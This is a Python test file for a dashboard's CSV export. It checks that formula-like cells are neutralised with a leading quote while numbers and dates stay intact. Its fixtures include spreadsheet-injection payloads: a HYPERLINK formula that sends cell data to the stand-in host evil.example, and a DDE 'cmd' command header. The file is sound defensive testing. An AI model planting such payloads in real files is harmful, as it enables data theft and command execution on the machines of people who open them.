"""CSV downloads are safe to open in a spreadsheet (no formula injection),
while numbers, negative numbers and dates stay numbers and dates."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pandas as pd

from dashboard import exports, frame

DASHBOARD = Path(__file__).resolve().parents[2] / "dashboard"


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers():
    table = pd.DataFrame({
        "area_name": ['=HYPERLINK("http://evil.example/?x="&A1,"Trafford")', "+1+1", "-2+3", "@SUM(A1:A9)",
                      "\tTab", "\rCR", "Trafford", "-3.2", "+5", "1e-3", "-", "a=b"],
        "count": pd.array([-5, 0, 12, None, 7, 1, 2, 3, 4, 5, 6, 8], dtype="Int64"),
        "value": [-1.5, 0.0, 2.25, float("nan"), 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
        "period_start": pd.to_datetime(["2023-04-01"] * 12),
        "due": [dt.date(2024, 1, 1)] * 12,
        "provisional": [True, False] * 6,
    })
    out = exports.csv_bytes(table).decode("utf-8")
    expected = (
        "area_name,count,value,period_start,due,provisional\r\n"
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Trafford"")",-5,-1.5,2023-04-01,2024-01-01,True\r\n'
        "'+1+1,0,0.0,2023-04-01,2024-01-01,False\r\n"
        "'-2+3,12,2.25,2023-04-01,2024-01-01,True\r\n"
        "'@SUM(A1:A9),,,2023-04-01,2024-01-01,False\r\n"
        "'\tTab,7,1.0,2023-04-01,2024-01-01,True\r\n"
        "\"'\rCR\",1,2.0,2023-04-01,2024-01-01,False\r\n"
        "Trafford,2,3.0,2023-04-01,2024-01-01,True\r\n"
        "-3.2,3,4.0,2023-04-01,2024-01-01,False\r\n"
        "+5,4,5.0,2023-04-01,2024-01-01,True\r\n"
        "1e-3,5,6.0,2023-04-01,2024-01-01,False\r\n"
        "'-,6,7.0,2023-04-01,2024-01-01,True\r\n"
        "a=b,8,8.0,2023-04-01,2024-01-01,False\r\n"
    )
    assert out == expected


def test_the_input_table_is_not_changed_and_headers_are_made_safe():
    table = pd.DataFrame({"=cmd|' /C calc'!A0": ["=1+1"], "ok": ["x"]})
    safe = exports.spreadsheet_safe(table)
    assert list(safe.columns) == ["'=cmd|' /C calc'!A0", "ok"]
    assert safe.iloc[0, 0] == "'=1+1"
    assert table.iloc[0, 0] == "=1+1" and list(table.columns)[0].startswith("=")


def test_categorical_and_string_dtype_columns_are_covered():
    table = pd.DataFrame({"a": pd.Categorical(["=x", "y"]), "b": pd.array(["@y", None], dtype="string")})
    assert exports.csv_bytes(table).decode() == "a,b\r\n'=x,'@y\r\ny,\r\n"


def test_frame_downloads_use_the_safe_csv():
    t = pd.DataFrame({"area": ["-x"], "change %": ["-12.5"], "n": [-3]})
    assert frame.csv_bytes(t) == b"area,change %,n\r\n'-x,-12.5,-3\r\n"


def test_every_csv_download_goes_through_frame_download():
    """Only frame.download builds CSV downloads (the evidence page's report is HTML, built with escaping)."""
    for p in DASHBOARD.rglob("*.py"):
        src = p.read_text()
        if p.name == "frame.py":
            assert src.count("st.download_button(") == 1
            continue
        assert ".to_csv(" not in src or p.name == "exports.py", p
        for m in re.finditer(r"st\.download_button\((.*?)\n\)", src, re.S):
            assert 'mime="text/html"' in m.group(1), f"{p}: a download not built by frame.download"
